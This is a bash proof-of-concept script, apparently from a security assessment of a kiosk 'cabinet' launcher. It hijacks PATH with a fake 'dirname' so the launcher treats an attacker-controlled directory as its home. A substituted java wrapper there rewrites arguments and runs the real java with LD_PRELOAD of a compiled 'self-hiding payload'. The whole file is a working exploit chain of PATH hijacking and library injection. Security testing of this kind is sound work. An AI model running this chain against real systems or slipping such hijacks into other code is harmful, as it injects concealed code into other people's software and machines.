#!/bin/bash
# bin/cabinet computes its home with the dirname found on PATH; a dirname of one's own points it at a directory
# whose runtime/bin/java is the attacker's: here a wrapper that runs the image's real java with LD_PRELOAD of the
# self-hiding payload (docs/security-attack-2026-11-28.md, A7).
# Usage: IMG=... CFG=... ./path-dirname.sh --headless --script probe.txt   (simulated cabinet) or the kiosk
set -eu
here=$(cd "$(dirname "$0")" && pwd); w=$(mktemp -d)
gcc -shared -fPIC -O2 -fno-stack-protector -o "$w/hide.so" "$here/hide.c" -lpthread
mkdir -p "$w/path" "$w/home/bin" "$w/home/runtime/bin"; ln -s "$IMG/app" "$w/home/app"
printf '#!/bin/sh\necho %s/home/bin\n' "$w" > "$w/path/dirname"
cat > "$w/home/runtime/bin/java" <<J
#!/bin/bash
from='$w/home'; to='$IMG'
args=(); for a in "\$@"; do args+=("\${a//"\$from"/"\$to"}"); done
export LD_PRELOAD=$w/hide.so
exec $IMG/runtime/bin/java "\${args[@]}"
J
chmod +x "$w/path/dirname" "$w/home/runtime/bin/java"
rm -f /tmp/hidden-*
PATH="$w/path:$PATH" "$IMG/bin/cabinet" run --config "$CFG" "$@"; echo "cabinet exit $?"
echo "payload marks: $(cat /tmp/hidden-* 2>/dev/null | wc -l)"
